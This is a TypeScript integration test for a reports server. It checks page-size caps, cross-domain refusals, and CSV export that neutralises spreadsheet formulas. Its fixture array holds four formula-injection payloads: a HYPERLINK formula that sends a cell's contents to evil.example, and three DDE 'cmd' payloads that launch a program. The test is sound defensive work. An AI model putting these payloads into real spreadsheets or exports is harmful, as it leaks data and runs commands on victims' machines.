/**
 * Reports through the real server: a page larger than the cap is refused naming it, a value that
 * a spreadsheet would run as a formula comes out of the CSV as text, and a refusal names what was
 * asked ("may not read reports of"), not a submission.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ucrViewName } from '../../commcare/reports/index.js';
import { reportsModule } from '../../server/index.js';
import { testDatabase } from '../support/pipeline-fixtures.js';
import { startTestReceiver, type TestReceiver } from '../support/receiver-fixtures.js';
import { testNames } from '../support/resources.js';

const names = testNames(import.meta.url);
const other = testNames(import.meta.url);
const database = await testDatabase();
const reportsDir = mkdtempSync(join(tmpdir(), 'tributary-report-requests-'));
let receiver: TestReceiver;
let capped: TestReceiver;
let stranger: TestReceiver;
let view: string;

const formulas = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  '+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
];

beforeAll(async () => {
  // Written first: the reports module reads its folder when it starts.
  const domain = names.id.replace(/_/g, '-');
  writeFileSync(
    join(reportsDir, 'people.json'),
    JSON.stringify({
      _id: 'people',
      domain,
      config_id: 'people',
      title: 'People',
      aggregation_columns: ['doc_id'],
      columns: [
        { type: 'field', field: 'name', column_id: 'name', display: 'Name', aggregation: 'simple' },
        { type: 'field', field: 'visits', column_id: 'visits', display: 'Visits', aggregation: 'sum' },
      ],
      sort_expression: [{ field: 'visits', order: 'DESC' }],
    }),
  );
  receiver = await startTestReceiver(names, { users: 1, modules: [reportsModule({ reportsDir })] });
  // The same domain's reports behind a server whose page cap is 2 rows.
  capped = await startTestReceiver(names, {
    users: 1,
    modules: [reportsModule({ reportsDir })],
    settings: { TRIBUTARY_REPORT_MAX_ROWS: 2 },
  });
  stranger = await startTestReceiver(other, { users: 1 });
  view = ucrViewName(domain, 'people');
  await database.db.none('CREATE SCHEMA IF NOT EXISTS tributary_ucr');
  await database.db.none('CREATE SCHEMA IF NOT EXISTS $1:name', [names.pgSchema()]);
  await database.db.none('CREATE TABLE $1:name.people (doc_id text PRIMARY KEY, name text, visits integer)', [
    names.pgSchema(),
  ]);
  for (const [i, name] of [...formulas, 'Ada', 'Chidi'].entries())
    await database.db.none('INSERT INTO $1:name.people VALUES ($2, $3, $4)', [
      names.pgSchema(),
      `d${i}`,
      name,
      -i,
    ]);
  await database.db.none('CREATE VIEW tributary_ucr.$1:name AS SELECT * FROM $2:name.people', [
    view,
    names.pgSchema(),
  ]);
}, 60_000);

afterAll(async () => {
  for (const server of [receiver, capped, stranger]) await server?.close();
  await database.db.none('DROP VIEW IF EXISTS tributary_ucr.$1:name', [view]);
  for (const n of [names, other])
    await database.db.none('DROP SCHEMA IF EXISTS $1:name CASCADE', [n.pgSchema()]);
  await database.close();
  rmSync(reportsDir, { recursive: true, force: true });
});

function get(server: TestReceiver, query: string, as: TestReceiver = server) {
  const user = as.users[0]!;
  // Full usernames: a short one is read as a user of the domain in the URL.
  const username = `${user.username}@${as.domain}.commcarehq.org`;
  return fetch(`${server.service.url}/a/${receiver.domain}/reports/people/data${query}`, {
    headers: {
      authorization: `Basic ${Buffer.from(`${username}:${user.password}`).toString('base64')}`,
    },
  });
}

describe('report requests', () => {
  it('refuse a limit above the cap with a 400 naming it, and serve pages up to it', async () => {
    const huge = await get(receiver, '?limit=1000000000');
    expect(huge.status).toBe(400);
    expect(await huge.json()).toEqual({
      error: expect.stringMatching(/limit.*at most 10000.*got 1000000000/) as unknown,
      parameter: 'limit',
    });
    const over = await get(capped, '?limit=3');
    expect(over.status).toBe(400);
    expect(((await over.json()) as { error: string }).error).toMatch(/at most 2/);
    const page = await get(capped, '?limit=2&offset=2');
    expect(page.status).toBe(200);
    expect(((await page.json()) as { rows: unknown[]; total_records: number }).rows).toHaveLength(2);
    // Without a limit, the default page is lowered to the cap.
    expect(((await (await get(capped, '')).json()) as { rows: unknown[] }).rows).toHaveLength(2);
  });

  it('write every formula-like value of the CSV as text, and numbers as numbers', async () => {
    const response = await get(receiver, '?format=csv');
    expect(response.status).toBe(200);
    const lines = (await response.text()).trimEnd().split('\r\n');
    expect(lines[0]).toBe('Name,Visits');
    const cells = lines.slice(1).map((line) => line.match(/^("(?:[^"]|"")*"|[^,]*),(.*)$/)!.slice(1));
    const names = cells.map(([name]) =>
      name!.startsWith('"') ? name!.slice(1, -1).replaceAll('""', '"') : name,
    );
    expect(names).toEqual([...formulas.map((formula) => `'${formula}`), 'Ada', 'Chidi']);
    expect(cells.map(([, visits]) => visits)).toEqual(['0', '-1', '-2', '-3', '-4', '-5']);
  });

  it('word a refusal to a user of another domain for reading reports', async () => {
    const response = await get(receiver, '', stranger);
    expect(response.status).toBe(403);
    expect(((await response.json()) as { error: string }).error).toMatch(
      new RegExp(`may not read reports of domain ${receiver.domain}`),
    );
  });
});
